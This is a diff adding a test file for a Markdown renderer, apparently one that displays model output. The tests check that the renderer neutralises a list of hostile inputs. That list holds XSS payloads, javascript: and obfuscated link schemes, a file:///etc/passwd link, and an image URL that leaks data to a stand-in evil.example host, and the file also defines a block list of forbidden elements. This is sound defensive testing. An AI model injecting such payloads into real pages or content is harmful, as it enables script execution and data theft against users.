@@ -1,0 +1,95 @@
+import { screen } from '@testing-library/react';
+import userEvent from '@testing-library/user-event';
+import { expect, test, vi } from 'vitest';
+import { show } from '../test/render';
+import { LinkContext, Markdown } from './markdown';
+
+// What a hostile model or package may write. None of it may become a live element or a request.
+const hostile = [
+  '<script>window.pwned = 1</script>',
+  '<img src=x onerror="window.pwned = 1">',
+  '<svg/onload="window.pwned = 1">',
+  '<iframe src="https://evil.example"></iframe>',
+  '<form action="https://evil.example"><input name="a"></form>',
+  '<style>body { display: none }</style>',
+  '<a href="javascript:window.pwned=1">x</a>',
+  '<details open ontoggle="window.pwned=1">x</details>',
+  '<base href="https://evil.example">',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<math><mtext><img src=x onerror="window.pwned=1"></mtext></math>',
+  '[x](javascript:alert(1))',
+  '[x](JaVaScRiPt:alert(1))',
+  '[x](&#106;avascript:alert(1))',
+  '[x](data:text/html;base64,PHNjcmlwdD4=)',
+  '[x](file:///etc/passwd)',
+  '[x](tauri://localhost)',
+  '[x](ipc://localhost/submit)',
+  '[x](vbscript:msgbox(1))',
+  '[x]( \u0001javascript:alert(1))',
+  '<javascript:alert(1)>',
+  '![x](https://evil.example/leak.png?d=secret)',
+  '![x](//evil.example/leak.png)',
+  '![x](data:image/png;base64,AAAA)',
+  '[![x](https://evil.example/a.png)](https://ok.example)',
+  '[ref]\n\n[ref]: javascript:alert(1)',
+  '![ref]\n\n[ref]: https://evil.example/a.png',
+  '```html\n<script>window.pwned = 1</script>\n```',
+  '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
+];
+
+const FORBIDDEN =
+  'script,img,svg[onload],iframe,form,input[name],style,base,link,object,embed,a[href],video,audio,picture,source';
+
+test.each(hostile)('nothing live comes of %j', (text) => {
+  for (const streaming of [false, true]) {
+    const { container, unmount } = show(<Markdown text={text} streaming={streaming} />);
+    expect([...container.querySelectorAll(FORBIDDEN)].map((e) => e.outerHTML)).toEqual([]);
+    for (const element of container.querySelectorAll('*')) {
+      const handlers = element.getAttributeNames().filter((name) => name.startsWith('on'));
+      expect(handlers).toEqual([]);
+    }
+    for (const link of container.querySelectorAll('button.link')) {
+      expect(link.getAttribute('title')).toMatch(/^(https?|mailto):/i);
+    }
+    expect(document.head.querySelectorAll('link[rel=preload]')).toHaveLength(0);
+    expect((window as { pwned?: number }).pwned).toBeUndefined();
+    unmount();
+  }
+});
+
+test('a link is handed to the window, with its address, and opens nothing by itself', async () => {
+  const open = vi.fn();
+  show(
+    <LinkContext.Provider value={open}>
+      <Markdown text="See [the manual](https://example.org/manual)." />
+    </LinkContext.Provider>,
+  );
+  await userEvent.click(screen.getByRole('button', { name: 'the manual' }));
+  expect(open).toHaveBeenCalledExactlyOnceWith('https://example.org/manual');
+});
+
+test('an image is named instead of loaded, in the reader’s language', () => {
+  show(<Markdown text="![a chart](https://evil.example/x.png)" />, 'zh');
+  expect(screen.getByText('未加载图片：a chart')).toBeVisible();
+});
+
+test('ordinary Markdown is shown as such', () => {
+  const { container } = show(
+    <Markdown
+      text={
+        '# Title\n\n**bold** `code`\n\n- one\n- two\n\n```js\nlet a = 1;\n```\n\n| a |\n|---|\n| 1 |'
+      }
+    />,
+  );
+  expect(container.querySelector('h3')).toHaveTextContent('Title');
+  expect(container.querySelector('strong')).toHaveTextContent('bold');
+  expect(container.querySelectorAll('li')).toHaveLength(2);
+  expect(container.querySelector('pre')).toHaveTextContent('let a = 1;');
+  expect(container.querySelector('td')).toHaveTextContent('1');
+});
+
+test('half-written Markdown is closed while it streams', () => {
+  const { container } = show(<Markdown text="This is **half" streaming />);
+  expect(container.querySelector('strong')).toHaveTextContent('half');
+  expect(container).not.toHaveTextContent('**');
+});
